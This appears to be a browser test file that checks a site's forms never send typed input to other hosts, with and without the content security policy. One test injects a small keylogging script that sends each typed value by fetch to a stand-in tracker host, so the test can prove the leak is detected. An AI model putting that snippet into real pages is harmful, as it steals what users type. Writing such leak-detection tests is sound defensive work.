import { expect, test } from './fixtures.ts';
import { canary, neutral, type SeenOfForm, walkAll, walkForm } from './form-states.ts';
import { onTheWire } from './net-log.ts';
import { startServer } from './server.ts';

/** The policy is a net and not the reason: whatever holds must hold without it. */
for (const bypassCSP of [false, true]) {
  const how = bypassCSP ? 'without the policy' : 'under the policy';

  test(`${how}, no form in any state goes elsewhere or tells anybody what was typed`, async () => {
    test.setTimeout(120_000);
    const server = await startServer();
    let seen: SeenOfForm[] = [];
    const { elsewhere, text } = await onTheWire(async (browser) => {
      seen = await walkAll(browser, server.origin, bypassCSP);
    }).finally(server.stop);
    for (const { told, whileTyping, faults } of seen) {
      expect({ told, whileTyping }).toEqual({ told: [], whileTyping: [] });
      // The only step outside is the way out, and the reader takes it.
      expect(faults.filter((fault) => fault !== `request to ${neutral}`)).toEqual([]);
    }
    expect(elsewhere).toEqual([]);
    expect(text).not.toMatch(canary);
    expect(server.said()).toContain('"status":201');
    expect(server.said()).not.toMatch(canary);
  });
}

test('a script that tells what is typed is seen at every place that is watched', async ({ server }) => {
  let seen: SeenOfForm | undefined;
  const { elsewhere, text } = await onTheWire(async (browser) => {
    const context = await browser.newContext({ bypassCSP: true });
    await context.addInitScript(() => {
      addEventListener('input', ({ target }) => {
        const { value } = target as HTMLInputElement;
        document.title = value;
        void fetch(`http://tracker.invalid/?typed=${value}`).catch(() => {});
      });
    });
    seen = await walkForm(await context.newPage(), server.origin, '/contact/call-back/');
  });
  expect(seen?.told.join('\n')).toMatch(/address: .*\n(.*\n)*page: /);
  expect(seen?.whileTyping.join('\n')).toMatch(/GET http:\/\/tracker\.invalid\/\?typed=Zzcanary/);
  expect(seen?.faults.join('\n')).toContain('request to http://tracker.invalid/');
  expect(elsewhere.join('\n')).toContain('tracker.invalid');
  expect(text).toMatch(canary);
});
